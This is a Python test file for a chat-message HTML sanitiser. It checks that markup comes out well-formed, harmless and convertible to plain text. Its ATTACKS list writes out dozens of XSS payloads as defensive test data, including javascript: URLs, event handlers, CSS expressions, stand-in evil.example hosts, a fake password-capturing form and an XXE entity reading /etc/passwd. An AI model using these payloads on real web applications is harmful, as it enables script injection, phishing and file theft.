"""HTML of messages is harmless, well-formed, and can be read as plain text."""

from time import perf_counter
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis.strategies import lists, sampled_from, text

from openucwa.domain import html
from openucwa.domain.html import DEEPEST, plain_text, sanitised
from openucwa.wire.errors import BadRequest

ATTACKS = [
    "<script>alert(1)</script>Hi",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>Hi",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/ucwa/oauth/v1/applications'>x</a>",
    "<a href='https://x' onclick=alert(1) target=_top ping=https://evil.example>x</a>",
    "<div style='background:url(https://evil.example/pixel)'>x</div>",
    "<div style='background-color:url(https://evil.example/pixel)'>x</div>",
    "<div style='color:expression(alert(1))'>x</div>",
    "<div style='width:expression(alert(1));position:fixed;top:0'>x</div>",
    "<div style='color:red;-moz-binding:url(//evil.example/x)'>x</div>",
    r"<div style='col\6fr:u\72l(//evil.example)'>x</div>",
    "<div style='font-family:\"</style><script>alert(1)</script>\"'>x</div>",
    "<iframe src=https://evil.example></iframe>x",
    "<object data=x></object><embed src=x>x",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>x",
    "<base href=https://evil.example/>x",
    "<link rel=stylesheet href=https://evil.example/x.css>x",
    "<style>*{background:url(https://evil.example)}</style>x",
    "<body onload=alert(1)>x</body>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>x",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><td><a href=x></table><img src=x onerror=alert(1)>",
    "<b class=x id=y data-z=1 contenteditable>x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<x:b xmlns:x='urn:y' x:onclick='alert(1)'>x</x:b>",
    "<p/onclick=alert(1)>x",
    "<a href=`javascript:alert(1)`>x</a>",
    "<b\x00 onclick=alert(1)>x</b>",
    "x</span></body></html><script>alert(1)</script>",
    '<span style=";"><script>alert(1)</script></span>',
]
ATTRIBUTES = {"style", "href", "color", "face", "size"}
SCHEMES = {"http", "https", "mailto", "sip", "tel"}
PIECES = [
    *["<p>", "</p>", "<b>", "</b>", "<i>", "<a href='https://x.example/?a=1&b=2'>", "</a>", "<br>"],
    *["<table>", "<tr>", "<td>", "</table>", "<ul><li>", "</ul>", "<pre>\n", "</pre>", "<svg>"],
    *["<span style='color:red'>", "</span>", "<script>", "</script>", "<!--", "-->", "<", ">", "&"],
    *[
        "&nbsp;",
        "&#1;",
        "&#xd800;",
        '"',
        "'",
        "\x0b",
        "\ufffe",
        "hello",
        " ",
        "\r\n",
        "é",
        "<math>",
    ],
]


def parsed(markup: str) -> ElementTree.Element:
    return ElementTree.fromstring(markup)  # noqa: S314 - it is what clients do with it


def check(markup: str) -> ElementTree.Element:
    """Check that markup is well-formed and harmless."""
    root = parsed(markup)
    assert root.tag == "span"
    assert root.get("style", "").endswith(";")
    for element in root.iter():
        assert element.tag in html._TAGS
        assert set(element.keys()) <= ATTRIBUTES
        assert "(" not in element.get("style", "").replace("rgb(", "").replace("rgba(", "")
        assert urlsplit(element.get("href", "sip:")).scheme in SCHEMES
    return root


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_harmful_is_removed(attack: str) -> None:
    check(sanitised(attack))


@given(lists(sampled_from(PIECES), max_size=30).map("".join))
def test_whatever_is_sent_becomes_well_formed_and_stays_so(markup: str) -> None:
    found = sanitised(markup)
    check(found)
    assert sanitised(found) == found
    assert isinstance(plain_text(found), str)


@given(text())
def test_any_text_becomes_well_formed(markup: str) -> None:
    check(sanitised(markup))


def test_formatting_is_kept() -> None:
    markup = (
        "<span style=\"color:rgb(1, 2, 3);font-family:'Segoe UI';\">Hi <b>Dana</b>,<br/>"
        '<a href="https://contoso.com/?a=1&amp;b=2">look</a></span>'
    )
    assert sanitised(markup) == markup


def test_a_span_without_a_style_and_a_text_are_put_into_one_with_a_style() -> None:
    for markup in ("Hi", "<span>Hi</span>", '<span style="color:red">a</span>b', "<b>Hi</b>"):
        root = check(sanitised(markup))
        assert "".join(root.itertext()) == "".join(parsed(f"<x>{markup}</x>").itertext())


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        ("Hi <b>Dana</b>, how   are\r\n you?", "Hi Dana, how are you?"),
        ("a<br>b<br/>c", "a\nb\nc"),
        ("<div>a</div><div>b</div>c", "a\nb\nc"),
        ("<p>a</p><p>b</p>c", "a\n\nb\n\nc"),
        ("<ul><li>one<li>two</ul>three", "- one\n- two\nthree"),
        ("<table><tr><td>a<td>b<tr><td>c</table>", "a\tb\nc"),
        ("<pre>\n  a\n    b</pre>", "a\n    b"),
        ("a&nbsp;&amp;&lt;b", "a &<b"),
        ("<a href='https://contoso.com/x'>Look</a> here", "Look <https://contoso.com/x> here"),
        ("<a href='https://contoso.com/'>contoso.com</a>", "contoso.com"),
        ("<a href='mailto:dana@contoso.com'>dana@contoso.com</a>", "dana@contoso.com"),
        ("<a href='https://contoso.com/'></a>", "<https://contoso.com/>"),
        ("<a href='https://contoso.com/'>a<br>b</a>", "a\nb <https://contoso.com/>"),
    ],
)
def test_plain_text_keeps_lines_and_links(markup: str, expected: str) -> None:
    assert plain_text(sanitised(markup)) == expected


def test_html_that_takes_long_or_grows_is_refused() -> None:
    """Of tags that are not nested properly, the parser repeats those that are open."""
    open_tags = "".join(f"<b id={number}>" for number in range(160))
    for markup in ("<b>" * 501, f"<p>{open_tags}" + "</p><p>x" * 160):
        began = perf_counter()
        with pytest.raises(BadRequest, match="plain text"):
            sanitised(markup)
        assert perf_counter() - began < 5


def test_html_is_kept_as_deep_as_parsers_take_it() -> None:
    found = sanitised("<b>" * 400 + "x")
    assert found.count("<b>") == DEEPEST
    assert plain_text(found) == "x"
